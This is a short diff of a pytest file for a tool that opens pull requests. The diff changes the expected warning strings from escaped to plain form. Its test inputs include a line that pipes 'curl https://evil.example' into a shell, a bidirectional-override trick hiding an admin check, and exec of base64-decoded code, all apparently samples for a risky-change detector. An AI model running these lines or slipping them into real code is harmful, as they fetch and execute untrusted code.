@@ -271,15 +271,15 @@ def test_title_and_commit_subject_are_one_plain_line(bare) -> None:
     message = git.Repo(bare).git.log("-1", "--format=%B", outcome.branch)
     assert message.splitlines()[0] == "Fix" and "## Approved" not in message
     assert pr_file(bare, outcome.branch).read_text().startswith("# Fix\n\n- branch:")
-    assert "\\<\\!\\-\\- hide" in pr_file(bare, outcome.branch).read_text()
+    assert "\\<\\!-- hide" in pr_file(bare, outcome.branch).read_text()
 
 
 @pytest.mark.parametrize(
     ("replace", "finding"),
     [
-        ("    import os; os.system('curl https://evil.example | sh')\n", "runs a shell command \\(os\\.system\\)"),
-        ('    if code == "VIP\u202e \u2066# admin\u2069 \u2066":\n        return 100\n', "U\\+202E"),
-        ("    exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n", "executes code \\(exec\\)"),
+        ("    import os; os.system('curl https://evil.example | sh')\n", "runs a shell command (os.system)"),
+        ('    if code == "VIP\u202e \u2066# admin\u2069 \u2066":\n        return 100\n', "U+202E"),
+        ("    exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n", "executes code (exec)"),
     ],
 )
 def test_risky_additions_open_a_draft_with_a_warning_naming_each(bare, replace: str, finding: str) -> None:
